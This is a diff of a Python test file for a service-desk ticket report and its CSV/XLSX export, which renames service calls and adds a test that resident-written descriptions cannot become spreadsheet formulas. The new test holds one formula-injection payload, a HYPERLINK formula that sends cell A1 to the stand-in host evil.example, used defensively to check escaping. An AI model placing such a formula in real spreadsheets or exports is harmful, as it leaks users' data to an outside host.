@@ -7,6 +7,7 @@ figure is repeated next to its assertion.
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
 import json
 from datetime import date, datetime
@@ -244,17 +245,35 @@ async def test_tickets_worked_through_the_ticket_service(desk: Desk) -> None:
     solved, unsolved = await file_noise(desk), await file_noise(desk)
     desk.clock.advance(hours=1)
     for number in (solved, unsolved):
-        await desk.service.accept(STAFF, number)
+        await desk.tickets.staff.accept(STAFF, number)
     desk.clock.advance(hours=2)
     for number in (solved, unsolved):
-        await desk.service.resolve(STAFF, number, "已处理")
-    await desk.service.rate(RESIDENT, solved, True, 5)
-    await desk.service.rate(RESIDENT, unsolved, False, 2, "还是很吵")
-    await desk.service.resolve(STAFF, unsolved, "再次上门处理")
-    await desk.service.close(STAFF, unsolved)
+        await desk.tickets.staff.resolve(STAFF, number, "已处理")
+    await desk.tickets.resident.rate(RESIDENT, solved, True, 5)
+    await desk.tickets.resident.rate(RESIDENT, unsolved, False, 2, "还是很吵")
+    await desk.tickets.staff.resolve(STAFF, unsolved, "再次上门处理")
+    await desk.tickets.staff.close(STAFF, unsolved)
     report = await ReportService(desk.db, desk.clock).report(month_period(2026, 11))
     f = report.totals
     assert (f.received, f.response_rate, f.median_first_response_h) == (2, 1.0, 1.0)
     assert (f.confirmed, f.staff_only, f.reopened) == (1, 1, 1)
     assert (f.ratings, f.satisfaction_rate, f.median_resolution_h) == (2, 0.5, 3.0)
     assert {r.number: r.outcome for r in report.tickets}[unsolved] == "再次上门处理"
+
+
+async def test_no_cell_a_resident_wrote_is_ever_a_formula(october: Report) -> None:
+    # A description that a spreadsheet would run: a link that leaks the sheet, or worse.
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"点这里")'
+    rows = export.ticket_rows(october)
+    column = rows[0].index("反映内容")
+    rows[1][column] = attack
+    rows[2][column] = "-1+2"
+    parsed = list(csv.reader(io.StringIO(export.to_csv(rows).decode("utf-8-sig"))))
+    assert parsed[1][column] == "'" + attack and parsed[2][column] == "'-1+2"
+
+    tickets = dataclasses.replace(october.tickets[0], description=attack)
+    book = openpyxl.load_workbook(
+        io.BytesIO(export.to_xlsx(dataclasses.replace(october, tickets=(tickets,))))
+    )
+    cell = book["工单"].cell(row=2, column=column + 1)
+    assert (cell.value, cell.data_type) == (attack, "s")  # text, shown exactly as written
